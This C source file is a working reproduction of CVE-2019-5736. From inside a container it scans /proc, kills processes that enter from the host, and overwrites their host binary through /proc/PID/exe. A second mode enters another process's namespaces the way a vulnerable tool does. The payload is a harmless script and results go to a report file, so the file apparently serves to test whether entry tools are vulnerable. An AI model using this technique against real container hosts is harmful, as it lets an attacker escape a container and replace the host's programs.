/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * CVE-2019-5736: overwrites the program of the host by which a process came in.
 *
 * overwrite attack FILE    looks at every process that it sees; where its program
 *                          is neither this one nor /bin/busybox, kills it, and writes
 *                          to that program as soon as it may; FILE gets a line
 *                          of what became of it
 * overwrite naive PID CMD… enters the mnt and pid namespaces and the root of PID, and
 *                          executes CMD there, as one would without a thought
 * overwrite FILE…          (the kernel calls it so, for "#!/proc/self/exe") waits
 */
#include <ctype.h>
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char evil[] = "#!/bin/sh\necho overwritten\n";

static void report(const char *file, const char *what, const char *how)
{
	FILE *out = fopen(file, "a");

	if (!out || fprintf(out, "%s: %s\n", what, how) < 0 || fclose(out) != 0)
		err(1, "%s", file);
}

/* Until nothing executes the program any more: then the kernel lets it be written to. */
static int open_for_writing(int fd)
{
	char path[64];
	int written;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	do
		written = open(path, O_WRONLY | O_CLOEXEC);
	while (written < 0 && errno == ETXTBSY && usleep(1000) == 0);
	return written;
}

static void overwrite(int fd, const char *file)
{
	char path[64];
	char what[256] = "";
	int written = open_for_writing(fd);

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (readlink(path, what, sizeof(what) - 1) < 0)
		err(1, "%s", path);
	if (written < 0)
		report(file, what, strerror(errno));
	else if (write(written, evil, sizeof(evil) - 1) < 0 || ftruncate(written, sizeof(evil) - 1) < 0)
		report(file, what, strerror(errno));
	else
		report(file, what, "overwritten");
	close(written);
}

static int is_same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Who comes in is in the same mnt namespace, as is unshare(1), the parent; others are let live. */
static int is_inside(const char *number)
{
	char path[64];
	struct stat own;
	struct stat other;

	snprintf(path, sizeof(path), "/proc/%.20s/ns/mnt", number);
	return atoi(number) != getppid() && stat("/proc/self/ns/mnt", &own) == 0 && stat(path, &other) == 0 &&
	       is_same(&own, &other);
}

static void look_at(const char *number, const struct stat known[2], const char *file)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", number);
	fd = is_inside(number) ? open(path, O_PATH | O_CLOEXEC) : -1;
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && !is_same(&st, &known[0]) && !is_same(&st, &known[1])) {
		kill(atoi(number), SIGKILL);
		overwrite(fd, file);
	}
	close(fd);
}

static int attack(const char *file)
{
	struct stat known[2];

	if (stat("/proc/self/exe", &known[0]) < 0 || stat("/bin/busybox", &known[1]) < 0)
		err(1, "the known programs");
	report(file, "attack", "begins");
	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;

		if (!processes)
			err(1, "/proc");
		while ((entry = readdir(processes))) {
			if (isdigit((unsigned char)entry->d_name[0]))
				look_at(entry->d_name, known, file);
		}
		closedir(processes);
	}
}

static int open_of(const char *pid, const char *name)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		err(1, "%s", path);
	return fd;
}

static int naive(char **argv)
{
	int user = open_of(argv[0], "ns/user");
	int mnt = open_of(argv[0], "ns/mnt");
	int pids = open_of(argv[0], "ns/pid");
	int root = open_of(argv[0], "root");
	pid_t parent = getpid();
	int status;
	pid_t child;

	/* Fails where it is the caller's own. */
	setns(user, CLONE_NEWUSER);
	if (setns(pids, CLONE_NEWPID) < 0 || setns(mnt, CLONE_NEWNS) < 0 || fchdir(root) < 0 ||
	    chroot(".") < 0)
		err(1, "cannot enter");
	child = fork();
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		/* The parent is dead already.  0: it is in another pid namespace. */
		if (getppid() != parent && getppid() != 0)
			_exit(1);
		execv(argv[1], argv + 1);
		err(1, "%s", argv[1]);
	}
	return child < 0 || waitpid(child, &status, 0) < 0 || !WIFEXITED(status) ? 1 : WEXITSTATUS(status);
}

int main(int argc, char **argv)
{
	if (argc > 2 && strcmp(argv[1], "attack") == 0)
		return attack(argv[2]);
	if (argc > 3 && strcmp(argv[1], "naive") == 0)
		return naive(argv + 2);
	for (;;)
		pause();
}
